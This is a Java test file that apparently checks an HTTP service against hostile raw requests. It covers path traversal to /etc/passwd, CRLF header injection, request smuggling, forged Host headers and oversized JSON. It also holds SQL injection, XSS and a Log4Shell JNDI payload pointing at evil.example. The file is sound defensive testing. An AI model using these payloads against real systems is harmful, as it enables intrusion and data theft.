package io.openhotline.platform.edge;

import static org.assertj.core.api.Assertions.assertThat;

import io.openhotline.testplatform.HotlineTestPlatform;
import io.openhotline.testplatform.issuer.TestTokens;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import java.io.IOException;
import java.util.UUID;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Keeps what was tried on a running service and found sound. Sends bytes that no client sends.
@QuarkusTest
@QuarkusTestResource(
        value = HotlineTestPlatform.class,
        initArgs = @ResourceArg(name = "database", value = "platform"))
class HostileRequestComponentTest {
    private static final String TOKEN =
            "Authorization: Bearer %s\r\n".formatted(TestTokens.of("agent:1001"));

    @ParameterizedTest
    @ValueSource(strings = {"TRACE", "TRACK", "PUT", "DELETE", "PROPFIND", "FOO"})
    void a_method_that_nobody_serves_is_405(String method) throws IOException {
        assertThat(send(method + " /probes", "", "")).startsWith("HTTP/1.1 405 ");
    }

    @ParameterizedTest
    @CsvSource({
        "/probes/..%2f..%2fetc%2fpasswd, 404",
        "/probes/%2e%2e/%2e%2e/etc/passwd, 404",
        "/probes/../../etc/passwd, 404",
        "/probes/actor%00, 400",
        "/probes/actor%0d%0aX-Injected:%20evil, 404",
        "/probes/undescribed?as=%0d%0aX-Injected:%20evil, 200",
        "/q/dev, 404",
        "/q/arc, 404"
    })
    void a_path_leads_nowhere_else_and_into_no_header(String path, int status) throws IOException {
        assertThat(send("GET " + path, "", ""))
                .startsWith("HTTP/1.1 " + status + " ")
                .doesNotContain("root:")
                .doesNotContainPattern("(?m)^X-Injected");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Host: evil.example",
                "Host: localhost\r\nX-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: https",
                "Host: localhost\r\nForwarded: host=evil.example;proto=https",
                "Host: localhost\r\nX-Original-URL: /q/metrics\r\nX-Rewrite-URL: /q/metrics"
            })
    void a_forged_host_never_becomes_a_location(String headers) throws IOException {
        assertThat(
                        RawConnection.exchange(
                                "POST /probes HTTP/1.1\r\nConnection: close\r\nContent-Type: application/json\r\n"
                                        + TOKEN
                                        + "Idempotency-Key: %s\r\nContent-Length: 13\r\n%s\r\n\r\n{\"text\": \"x\"}"
                                                .formatted(UUID.randomUUID(), headers)))
                .startsWith("HTTP/1.1 201 ")
                .doesNotContain("evil.example")
                .containsPattern("(?mi)^Location: /probes/");
    }

    @ParameterizedTest
    @CsvSource({
        "Accept-Language: ../../etc/passwd, 200",
        "'Accept-Language: zh;q=0.5,*;q=2', 200",
        "'X-Unknown: a\u0001b', 400",
        "X-Hotline-Actor: operator:1, 400",
        "'X-Hotline-Actor: agent:1001\r\nx-hotline-actor: operator:1', 400"
    })
    void a_header_is_text_and_nothing_more(String header, int status) throws IOException {
        assertThat(send("GET /probes/actor", header, ""))
                .startsWith("HTTP/1.1 " + status + " ")
                .doesNotContain("openhotline.platform", "java.", "\tat ");
    }

    @ParameterizedTest
    @CsvSource({
        "'Content-Length: 5\r\nContent-Length: 6'",
        "'Content-Length: -1'",
        "'Content-Length: 1e3'",
        "'Transfer-Encoding: chunked\r\nBad Header: x'",
        "'X-Bare: a\rX-Injected: evil'"
    })
    void a_request_that_two_servers_would_read_in_two_ways_is_400(String headers)
            throws IOException {
        assertThat(send("POST /probes", headers, "0\r\n\r\n"))
                .startsWith("HTTP/1.1 400 ")
                .doesNotContainPattern("(?m)^X-Injected");
    }

    /// RFC 9112: a transfer coding wins over a length, and nothing is left for a second request.
    @ParameterizedTest
    @ValueSource(strings = {"Content-Length: 4\r\nTransfer-Encoding: chunked"})
    void nothing_is_smuggled_behind_a_chunked_body(String headers) throws IOException {
        String answer =
                send(
                        "POST /probes",
                        headers,
                        "0\r\n\r\nGET /probes/actor HTTP/1.1\r\nHost: localhost\r\n\r\n");

        assertThat(answer.split("HTTP/1.1 ", -1)).as(answer).hasSize(2);
        assertThat(answer).startsWith("HTTP/1.1 415 ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "application/xml",
                "text/plain",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/x-java-serialized-object",
                "application/json/../xml"
            })
    void a_body_of_another_type_is_415(String type) throws IOException {
        assertThat(post(type, "{\"text\": \"x\"}")).containsPattern("^HTTP/1.1 (415|400) ");
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{\"text\":"})
    void a_body_nested_ten_thousand_times_is_400(String opening) throws IOException {
        assertThat(post("application/json", opening.repeat(10_000)))
                .startsWith("HTTP/1.1 400 ")
                .doesNotContain("java.", "StackOverflow");
    }

    @ParameterizedTest
    @ValueSource(strings = {"1e999999999", "-1e-999999999", "NaN", "Infinity", "0x10", "01"})
    void a_number_without_bounds_is_400(String number) throws IOException {
        assertThat(post("application/json", "{\"text\": \"x\", \"number\": " + number + "}"))
                .startsWith("HTTP/1.1 400 ");
    }

    @ParameterizedTest
    @ValueSource(ints = {1_000, 200_000})
    void a_number_of_many_digits_is_400(int digits) throws IOException {
        String body = "{\"text\": \"x\", \"number\": " + "9".repeat(digits) + "}";

        assertThat(post("application/json", body)).startsWith("HTTP/1.1 400 ");
    }

    @ParameterizedTest
    @ValueSource(strings = {"__proto__", "constructor", "@type", "class", "$ref"})
    void a_field_with_a_meaning_elsewhere_is_unknown_here(String field) throws IOException {
        assertThat(post("application/json", "{\"text\": \"x\", \"%s\": {}}".formatted(field)))
                .startsWith("HTTP/1.1 400 ")
                .contains("unknown-field");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' or 1=1 --",
                "'; drop table probe; --",
                "%00",
                "<img src=x onerror=alert(1)>",
                "${jndi:ldap://evil.example/x}",
                "\u202e\ud83d\ude00"
            })
    void a_value_is_never_code(String value) throws IOException {
        assertThat(post("application/json", "{\"text\": \"%s\"}".formatted(value)))
                .containsPattern("^HTTP/1.1 (201|400) ");
    }

    private static String post(String type, String body) throws IOException {
        int length = body.getBytes(java.nio.charset.StandardCharsets.UTF_8).length;
        return send(
                "POST /probes",
                "Content-Type: %s\r\nContent-Length: %d\r\nIdempotency-Key: %s"
                        .formatted(type, length, UUID.randomUUID()),
                body);
    }

    private static String send(String start, String headers, String body) throws IOException {
        return RawConnection.exchange(
                start
                        + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                        + TOKEN
                        + (headers.isEmpty() ? "" : headers + "\r\n")
                        + "\r\n"
                        + body);
    }
}
